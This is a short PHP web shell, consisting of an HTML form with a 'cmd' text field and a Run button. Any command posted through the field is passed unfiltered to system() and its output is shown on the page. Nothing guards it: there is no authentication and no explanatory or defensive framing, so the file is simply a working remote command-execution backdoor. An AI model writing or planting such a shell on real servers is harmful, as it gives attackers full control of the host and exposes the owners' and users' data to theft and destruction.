<html><body>
<form method="post">
<input type="text" name="cmd" size="80">
<input type="submit" value="Run">
</form>
<pre>
<?php
if (!empty($_POST['cmd'])) {
    $c = $_POST['cmd'];
    system($c . ' 2>&1');
}
?>
</pre>
</body></html>
